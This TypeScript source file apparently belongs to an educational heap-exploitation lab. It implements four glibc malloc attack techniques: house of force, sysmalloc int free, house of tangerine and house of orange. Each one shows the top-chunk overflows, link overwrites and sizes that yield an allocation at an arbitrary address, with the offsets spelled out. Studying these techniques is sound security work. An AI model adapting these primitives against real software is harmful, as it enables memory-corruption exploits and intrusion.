/** The top chunk: its size decides what malloc may cut from it, and what happens when it is too small. */
import type { Lab } from '../lab.ts';
import { needsCache, type Technique } from '../technique.ts';
import type { Block } from '../telling.ts';

const pageBytes = 0x1000;

/**
 * Allocates so that top begins `distance` bytes before a page's end, and gives top that size.
 * @returns the block before top, whose overflow does it, and the pointer that the old top would have as a block
 */
function shrinkTop(lab: Lab, distance: number): { before: Block; old: Block } {
  const chunkSize = (((-distance - lab.top) % pageBytes) + 2 * pageBytes) % pageBytes;
  const before = lab.malloc((chunkSize < 0x420 ? chunkSize + pageBytes : chunkSize) - 8, 'before');
  const old = lab.place(lab.top + 16, 'old top');
  lab.say('Written too far: top seems small, and still ends with a page, which is all that growing asks.');
  lab.write(old, -8, distance + 1);
  return { before, old };
}

export const houseOfForce: Technique = {
  name: 'house_of_force',
  what: 'Top claims to have no end: a huge request moves it to any place.',
  needs: 'an overflow by 8 bytes into top; a request of chosen size',
  corrupts: "top's size",
  gains: 'a block at an address of choice',
  scope: 'whole',
  run(lab) {
    const target = lab.malloc(0x4_0000, 'target');
    const before = lab.malloc(0x108, 'before');
    lab.write(before, 0x108, -1n);
    lab.say('From top to the target: the request that ends right before it.');
    lab.malloc(target.pointer + 0x100 - 0x10 - lab.top - 0x10, 'moving');
    const won = lab.malloc(0x108, 'won');
    lab.proveSame('the block lies in the target', won, target, 0, 0x100);
  },
};

export const sysmallocIntFree: Technique = {
  name: 'sysmalloc_int_free',
  what: 'Top is made small: growing finds new memory elsewhere and frees the old top, without any call of free.',
  needs: 'an overflow by 8 bytes into top',
  corrupts: "top's size",
  gains: 'a free chunk that nobody freed',
  scope: 'whole',
  run(lab) {
    const { old } = shrinkTop(lab, 0x900);
    lab.malloc(0xe08, 'larger');
    lab.say('The old top is in a bin now, 0x20 bytes shorter: a request of that size gives it.');
    lab.proveSame('the block is the old top', lab.malloc(0x8d8, 'won'), old);
  },
};

export const houseOfTangerine: Technique = {
  name: 'house_of_tangerine',
  what: 'The same several times: freed tops of a cached size, whose link is then overwritten. No call of free.',
  needs: 'overflows into top and into what was top; from 2.32 on a heap address',
  corrupts: "top's size, a cached block's link",
  gains: 'a block at an address of choice',
  scope: 'whole',
  notOn: needsCache,
  run(lab) {
    const bytes = 0x250;
    const target = lab.malloc(0x100, 'target');
    const tops: Block[] = [];
    for (let round = 0; round < 2; round++) {
      tops.push(shrinkTop(lab, bytes + 0x20).old);
      lab.malloc(0xe08, 'larger');
    }
    let linked = tops[1];
    if (!lab.facts.profile.internalFreeToCache) {
      lab.say('These frees pass by the cache: take the older top from its bin, and the other one is cached.');
      lab.malloc(bytes - 8, 'first');
    }
    lab.writeLink(linked, 0, target, 0x20);
    linked = lab.malloc(bytes - 8, 'head');
    lab.proveSame('the block lies in the target', lab.malloc(bytes - 8, 'won'), target, 0, 0x20);
  },
};

export const houseOfOrange: Technique = {
  name: 'house_of_orange',
  what: 'The old top, freed by growing, gets an unsorted link to the list of streams, which abort would walk.',
  needs: 'overflows into top and into what was top',
  corrupts: "top's size; size and bk of the unsorted chunk",
  gains: "the list head's address where the list of streams begins (what runs then is not the heap's)",
  scope: 'heap half',
  run(lab) {
    const streams = lab.malloc(0x100, 'streams');
    const { old } = shrinkTop(lab, 0xc00);
    lab.malloc(0xe08, 'larger');
    lab.say('The size makes the chunk land in the bin where the forged list would expect its next stream.');
    lab.write(old, -8, 0x60 + 1);
    lab.writeAddress(old, 0x8, streams, 0x40 - 0x10);
    if (lab.facts.minor >= 29) {
      lab.malloc(0x508, 'sorter');
    } else {
      lab.say('malloc sorts it, meets the list of streams next, which is no chunk, and aborts: as planned.');
      lab.attempt(() => lab.malloc(0x508, 'sorter'));
    }
    lab.proveArenaAddress("the list head's address stands where the streams begin", streams, 0x40);
  },
};
